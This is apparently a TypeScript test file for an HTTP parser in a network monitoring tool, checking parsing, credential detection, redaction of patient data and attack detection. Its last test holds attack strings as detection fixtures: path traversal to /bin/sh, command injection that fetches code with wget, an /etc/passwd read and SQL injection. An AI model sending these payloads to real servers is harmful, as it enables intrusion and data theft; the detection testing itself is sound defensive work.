import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Cursor } from '#base/cursor.ts';
import { play, type Said, type Sample, testProtocol } from '../../conformance.ts';
import { VERDICT } from '../../protocol.ts';
import { http } from './index.ts';

type Part = readonly ['client' | 'server', string];

const bytes = (text: string): Uint8Array => Buffer.from(text, 'latin1');
const lines = (...text: string[]): string => `${text.join('\r\n')}\r\n\r\n`;
const sample = (name: string, ...parts: Part[]): Sample => ({
  name,
  carrier: 'tcp',
  serverPort: 80,
  messages: parts.map(([from, text]) => ({ from, bytes: bytes(text) })),
});
const heard = (...parts: Part[]): Said => play(http, sample('', ...parts));

const get = lines(
  'GET /index.html?patient=DOE HTTP/1.1',
  'Host: archive.example.test:8042',
  'User-Agent: Orthanc/1.12',
);
const ok = lines(
  'HTTP/1.1 200 OK',
  'Server: GoAhead-Webs',
  'Content-Type: text/html; charset=utf-8',
  'Content-Length: 5',
);

const pages: Sample = {
  ...sample(
    'pipelined pages with every framing of the body',
    ['client', get + get.replace('GET', 'HEAD') + get],
    ['server', `${ok}hello${ok}`],
    [
      'server',
      `${lines('HTTP/1.1 200 OK', 'Transfer-Encoding: gzip, chunked', 'X-Powered-By: PHP/8.2')}5;a=b\r\nhello\r\n0\r\nA: b\r\n\r\n`,
    ],
    ['client', get],
    ['server', `${lines('HTTP/1.0 200 OK', 'Server: last/1.0')}until the end`],
  ),
  states: [
    'http.host=archive.example.test:8042',
    'http.userAgent=Orthanc/1.12',
    'http.server=GoAhead-Webs',
    'http.server=last/1.0',
    'http.poweredBy=PHP/8.2',
    'http.contentType=text/html',
  ],
};
const login: Sample = {
  ...sample(
    'a password is asked for and given',
    ['client', get],
    [
      'server',
      lines('HTTP/1.1 401 Unauthorized', 'WWW-Authenticate: Basic realm="Infusion Gateway"', 'Content-Length: 0'),
    ],
    ['client', lines('GET / HTTP/1.1', 'Authorization: Basic bnVyc2U6c2VjcmV0')],
  ),
  states: ['http.realm=Infusion Gateway'],
};
const upgrade: Sample = {
  ...sample(
    'a change to WebSocket',
    ['client', lines('GET /live HTTP/1.1', 'Upgrade: websocket', 'Connection: Upgrade')],
    ['server', `${lines('HTTP/1.1 101 Switching Protocols', 'Upgrade: websocket')}\x81\x05hello`],
  ),
  states: ['http.upgrade=websocket'],
};
const soap: Sample = {
  ...sample('SOAP', [
    'client',
    lines('POST /onvif HTTP/1.1', 'SOAPAction: "http://www.onvif.org/ver10/device/wsdl/GetDeviceInformation"'),
  ]),
  states: ['http.soapAction=http://www.onvif.org/ver10/device/wsdl/GetDeviceInformation'],
};
const radio = sample(
  'a streaming server',
  ['client', 'GET /radio HTTP/1.0\n\n'],
  ['server', 'ICY 200 OK\r\nicy-name: x\r\n\r\n\xff\xfb'],
);

testProtocol(
  http,
  [pages, login, upgrade, soap, radio],
  [
    bytes('OPTIONS rtsp://10.0.0.1/stream RTSP/1.0\r\nCSeq: 1\r\n\r\n'),
    bytes('RTSP/1.0 200 OK\r\nCSeq: 1\r\n\r\n'),
    bytes('INVITE sip:a@example.test SIP/2.0\r\n\r\n'),
    bytes('SIP/2.0 200 OK\r\n\r\n'),
    bytes('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    bytes('GET key\r\n'),
    bytes('HELO mail.example.test\r\n'),
  ],
);

test('http: the details are those of the first messages', () => {
  assert.deepEqual(play(http, pages).http, {
    method: 'GET',
    host: 'archive.example.test:8042',
    userAgent: 'Orthanc/1.12',
    status: 200,
    server: 'GoAhead-Webs',
    contentType: 'text/html',
  });
});

test('http: the same is said wherever the stream is split', () => {
  for (const whole of [pages, login, upgrade]) {
    const said = play(http, whole);
    const messages = whole.messages.flatMap(({ from, bytes: part }) =>
      [...Buffer.from(part)].map((byte) => ({ from, bytes: Uint8Array.of(byte) })),
    );
    const split = play(http, { ...whole, messages });
    assert.deepEqual(
      [split.facts, split.http, split.users, split.credentials],
      [said.facts, said.http, said.users, said.credentials],
    );
  }
});

test('http: credentials in clear text are told by their scheme, with the user’s name', () => {
  assert.deepEqual([play(http, login).users, play(http, login).credentials], [['nurse'], ['http.basic']]);
  const bearer = heard(['client', lines('GET / HTTP/1.1', 'Authorization: Bearer abc.def')]);
  assert.deepEqual([bearer.users, bearer.credentials], [[], ['http.bearer']]);
  const digest = heard(['client', lines('GET / HTTP/1.1', 'Authorization: Digest username="pump7", realm="x"')]);
  assert.deepEqual([digest.users, digest.credentials], [['pump7'], []]);
  assert.doesNotMatch(JSON.stringify(play(http, login)), /secret/);
});

test('http: patients’ data is noticed and never told', () => {
  const cases: [Part[], string[]][] = [
    [[['client', lines('GET /fhir/Patient/DOE-123 HTTP/1.1')]], ['http.fhir']],
    [[['client', lines('GET /Patient?name=DOE HTTP/1.1', 'Accept: application/fhir+json')]], ['http.fhir']],
    [[['client', lines('GET /Patient?name=DOE HTTP/1.1')]], []],
    [
      [['client', lines('GET http://h:1/dicom-web/studies/1.2.840.1/series?PatientName=DOE HTTP/1.1')]],
      ['http.dicomweb'],
    ],
    [[['client', lines('GET /studies/medicine HTTP/1.1')]], []],
    [[['client', lines('GET /wado?requestType=WADO&studyUID=1.2 HTTP/1.1')]], ['http.dicomweb']],
    [
      [['server', lines('HTTP/1.1 200 OK', 'Content-Type: multipart/related; type="application/dicom"')]],
      ['http.dicomweb'],
    ],
    [[['client', lines('POST /hl7 HTTP/1.1', 'Content-Type: x-application/hl7-v2+er7')]], ['http.hl7-v2']],
    [[['client', lines('POST /x HTTP/1.1', 'SOAPAction: "urn:ihe:iti:2007:RegistryStoredQuery"')]], ['http.hl7-v3']],
    [
      [
        ['client', lines('GET /fhir/metadata HTTP/1.1')],
        ['server', lines('HTTP/1.1 200 OK', 'Content-Type: application/fhir+json')],
      ],
      [],
    ],
  ];
  for (const [parts, kinds] of cases) {
    const said = heard(...parts);
    assert.deepEqual(said.patientData, kinds);
    assert.doesNotMatch(JSON.stringify(said), /DOE/);
  }
});

test('http: after CONNECT another protocol is looked for', () => {
  const parts: Part[] = [
    ['client', lines('CONNECT pacs.example.test:443 HTTP/1.1', 'Host: pacs.example.test:443')],
    ['server', lines('HTTP/1.1 200 Connection established')],
    ['client', '\x16\x03\x01\x00\x00'],
  ];
  assert.deepEqual(heard(...parts).outcomes, ['done', 'done']);
  const client = parts.filter(([from]) => from === 'client');
  assert.deepEqual(heard(...client).outcomes, ['done', 'not-mine']);
});

test('http: text that is folded, misplaced or ill-formed is not told', () => {
  const values = ['JANE^DOE', 'PID|1||123', 'a\x00b', '\xff\xfe', 'x'.repeat(300), '', '~DOE'];
  for (const value of values) {
    const head = [
      'HTTP/1.1 200 OK',
      `Server: ${value}`,
      `X-Powered-By: ${value}`,
      `WWW-Authenticate: Basic realm="${value}"`,
    ];
    assert.deepEqual(heard(['server', lines(...head)]).facts, [], value);
    assert.deepEqual(heard(['client', lines('GET / HTTP/1.1', `User-Agent: ${value}`)]).facts, [], value);
  }
  for (const host of ['DOE JANE', 'a|b', '10.0.0.1:99999999', 'a:1:2', '[::1']) {
    assert.deepEqual(heard(['client', lines('GET / HTTP/1.1', `Host: ${host}`)]).facts, []);
  }
  assert.deepEqual(heard(['server', lines('HTTP/1.1 200 OK', 'Server: a', ' DOE', 'Server : DOE')]).facts, []);
});

test('http: header sections beyond their limits are malformed', () => {
  const long = `GET / HTTP/1.1\r\nA: ${'x'.repeat(20_000)}\r\n\r\n`;
  const many = `GET / HTTP/1.1\r\n${'A: b\r\n'.repeat(300)}\r\n`;
  const endless = `GET / HTTP/1.1\r\n${`A: ${'x'.repeat(1000)}\r\n`.repeat(80)}`;
  for (const text of [long, many, endless]) assert.deepEqual(heard(['client', text]).outcomes, ['malformed']);
});

test('http: recognition waits for a short line and finds the next message after a gap', () => {
  const context = { carrier: 'tcp', fromClient: true, clientPort: 1, serverPort: 80, etherType: 0, time: 0 } as const;
  const verdict = (text: string): number => http.probe(Cursor.over(bytes(text)), context);
  assert.equal(verdict('GET / HT'), VERDICT.more);
  assert.equal(verdict('HTT'), VERDICT.more);
  assert.equal(verdict(`GET /${'a'.repeat(600)}`), VERDICT.sure);
  assert.equal(verdict('SOURCE /radio HTTP/1.0\r\n'), VERDICT.sure);
  assert.equal(verdict('get / HTTP/1.1\r\n'), VERDICT.no);
  assert.equal(http.reader?.resynchronise?.(Cursor.over(bytes(`lost GET /\r\n${get}`)), context), 12);
});

test('http: a word in the method’s place, and a field that has swallowed another, are not told', () => {
  const said = heard(
    ['client', lines('DOE /x HTTP/1.1', 'User-Agent: Mozilla/5.0 Cookie: patient=DOE')],
    ['server', lines('HTTP/1.1 200 OK', 'Server: nginx/1.2GET /patient/DOE HTTP/1.1', 'Content-Length: 0')],
    ['client', lines('GET /x HTTP/1.1', 'User-Agent: nginx/1.2?name=DOE')],
  );
  assert.equal(said.http.method, 'other');
  assert.ok(!JSON.stringify(said).includes('DOE'));
});

test('http: what only attacks ask for is noticed as a server would read it, and how it was answered', () => {
  const signals = (target: string, status = '200 OK', ...fields: string[]): readonly string[] =>
    play(
      http,
      sample(
        'attack',
        ['client', lines(`GET ${target} HTTP/1.1`, 'Host: a', ...fields)],
        ['server', lines(`HTTP/1.1 ${status}`, 'Content-Length: 0')],
      ),
    ).signals;
  const [exploit, command, file, query] = ['known-exploit', 'command-injection', 'file-inclusion', 'sql-injection'].map(
    (name) => [`http.${name}`, `http.${name}.answered`],
  );
  assert.deepEqual(signals('/cgi-bin/.%2e/.%2e/.%2e/bin/sh'), exploit);
  assert.deepEqual(signals('/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh'.replaceAll('%%32%65', '%252e')), exploit);
  assert.deepEqual(signals('/console/images/%252E%252E%252Fconsole.portal'), exploit);
  assert.deepEqual(signals('/ping?ip=1;wget+http://10.9.0.5/x'), command);
  assert.deepEqual(signals('/ping?ip=%7Cid'), command);
  assert.deepEqual(signals('/view?f=../../etc//passwd'), file);
  assert.deepEqual(signals('/p?id=1%27%20UNION/**/SELECT%201'), query);
  assert.deepEqual(signals('/p?id=1%27+OR+%271%27=%271', '403 Forbidden'), [
    'http.sql-injection',
    'http.sql-injection.refused',
  ]);
  assert.deepEqual(signals('/p?id=1 UNION SELECT'), [], 'behind the space no target goes on');
  for (const target of [
    '/',
    '/list?ids=1;id=2',
    '/reunion-selected',
    '/a?b=c|identity',
    '/docs/../img/a.png',
    '/%zz%2',
  ])
    assert.deepEqual(signals(target), [], target);
});
